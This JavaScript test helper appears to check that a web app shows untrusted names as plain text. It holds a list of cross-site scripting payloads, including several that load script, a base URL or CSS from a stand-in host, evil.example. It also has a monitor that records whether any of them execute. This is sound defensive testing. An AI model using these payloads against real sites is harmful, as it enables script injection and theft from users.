// Text that wants to be markup, and how a page is watched while it shows it.
import assert from 'node:assert/strict'
import { setTimeout as pause } from 'node:timers/promises'
import { PATIENCE_MS } from './browser.js'

/** What each payload does if it is ever more than text. */
const HIT = 'hit=1'
const EVENTS = ['onload', 'onerror', 'autofocus onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart', 'onpageshow']
const ELEMENTS = ['img src=x', 'svg', 'body', 'input', 'details open', 'video src=x', 'audio src=x', 'iframe', 'object data=x', 'embed src=x', 'marquee', 'select', 'style', 'link rel=stylesheet href=x']
/** The shortest are for the shortest fields. */
export const PAYLOADS = [
  '{{hit}}',
  '"><hr>',
  `<script>${HIT}</script>`,
  `<ScRiPt>${HIT}</sCrIpT>`,
  `<script src="data:text/javascript,${HIT}"></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  `</script><script>${HIT}</script>`,
  `</textarea><script>${HIT}</script>`,
  `</title><script>${HIT}</script>`,
  `--><script>${HIT}</script>`,
  `]]><script>${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `'><script>${HIT}</script>`,
  `" onfocus="${HIT}" autofocus x="`,
  `' onmouseover='${HIT}`,
  `javascript:${HIT}`,
  `<a href="javascript:${HIT}">x</a>`,
  `<a href="java&#9;script:${HIT}">x</a>`,
  `<a href=" &#14; javascript:${HIT}">x</a>`,
  `<form action="javascript:${HIT}"><button>x</button></form>`,
  `<button formaction="javascript:${HIT}">x</button>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.hit=1"></iframe>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${HIT}">`,
  `<base href="//evil.example/">`,
  `<object data="javascript:${HIT}"></object>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
  `<math><mtext></p><img src=x onerror=${HIT}></math>`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<div style="background:url(//evil.example/x)">x</div>`,
  `<template><script>${HIT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${HIT}>"></noscript>`,
  `{{constructor.constructor('${HIT}')()}}`,
  `\${${HIT}}`,
  `{{${HIT}}}`,
  `<div v-html="'<img src=x onerror=${HIT}>'"></div>`,
  `&lt;script&gt;${HIT}&lt;/script&gt;`,
  `&#60;script&#62;${HIT}&#60;/script&#62;`,
  `\\u003cscript\\u003e${HIT}\\u003c/script\\u003e`,
  `%3Cscript%3E${HIT}%3C/script%3E`,
  `＜script＞${HIT}＜/script＞`,
  `<img src="x\`><script>${HIT}</script>"\`>`,
  `<img/src=x/onerror=${HIT}>`,
  `<<img src=x onerror=${HIT}>`,
  `\u202E<img src=x onerror=${HIT}>`,
  ...ELEMENTS.map((element, at) => `<${element} ${EVENTS[at % EVENTS.length]}=${HIT}>`),
]

/** All of them in one text. */
export const ALL = PAYLOADS.join(' ')

/** Those that fit into a field of so many characters, as many as fit in each text. */
export function pieces(limit) {
  const made = []
  for (const payload of fitting(limit)) {
    const longer = made.length > 0 ? `${made.at(-1)} ${payload}` : payload
    if (made.length > 0 && longer.length <= limit) made[made.length - 1] = longer
    else made.push(payload)
  }
  return made
}

export function fitting(limit) {
  return PAYLOADS.filter(payload => payload.length <= limit)
}

/** A village of the demo county, and the alias of a guest. */
const GIVEN = '青石村|群众\\d{4}'

/**
 * The same browser with every window watched. Names of places and aliases of guests are written by nobody in a page: out of
 * whatever the real server says, these windows hear them as all payloads at once.
 */
export function watched(browser) {
  return {
    newContext: async options => {
      const context = await browser.newContext(options)
      await context.addInitScript(watch, { given: GIVEN, all: ALL })
      return context
    },
  }
}

/** Runs in the page, before it and in each later document of it. */
function watch({ given, all }) {
  let hit = 0
  const set = value => {
    hit = value
    // Is a complaint of the page, also when the document is gone a moment later.
    console.error('a payload ran')
  }
  Object.defineProperty(window, 'hit', { get: () => hit, set })
  window.violations = []
  document.addEventListener('securitypolicyviolation', event => window.violations.push(`${event.violatedDirective} ${event.blockedURI}`))
  const planted = said => {
    if (typeof said === 'string') return said.replace(new RegExp(given, 'g'), () => all)
    if (Array.isArray(said)) return said.map(planted)
    if (said === null || typeof said !== 'object') return said
    const record = 'recordId' in said ? { licenceNo: all, citizenRef: all, entrySource: all } : {}
    return { ...Object.fromEntries(Object.entries(said).map(([key, value]) => [key, planted(value)])), ...record }
  }
  const { parse } = JSON
  JSON.parse = (...texts) => planted(parse(...texts))
}

/** No payload ran, none was stopped by the content policy alone, and none became an element or an attribute. */
export async function assertOnlyText(page, where) {
  const found = await page.evaluate(() => {
    const made = 'body script, body style, body link, body meta, body template, main noscript, iframe, object, embed, base, marquee, math, hr, '
      + 'image, animate, [src="x"], [srcdoc], [formaction], [action], [v-html], [href^="javascript" i], [xlink\\:href], [href*="evil"], [src*="evil"]'
    const listens = element => element.getAttributeNames().some(name => name.startsWith('on'))
    return {
      hit: window.hit ?? 0,
      violations: window.violations,
      made: [...document.querySelectorAll(made)].map(element => element.outerHTML.slice(0, 200)),
      listening: [...document.querySelectorAll('*')].filter(listens).map(element => element.outerHTML.slice(0, 200)),
    }
  })
  assert.deepEqual(found, { hit: 0, violations: [], made: [], listening: [] }, where)
  assert.deepEqual(page.complaints, [], where)
}

/** All of these stand there, as they were written. */
export async function shows(scope, texts, where) {
  const page = scope.page?.() ?? scope
  const place = scope.page ? scope : page.locator('body')
  const missing = async () => {
    const shown = (await place.allTextContents()).join('\n')
    return texts.filter(text => !shown.includes(text))
  }
  let left = await missing()
  for (const end = Date.now() + PATIENCE_MS; left.length > 0 && Date.now() < end; left = await missing()) await pause(20)
  assert.equal(left.length, 0, `${where}: ${left.length} of ${texts.length} are not shown, such as ${left[0]?.slice(0, 100)}`)
  await assertOnlyText(page, where)
}
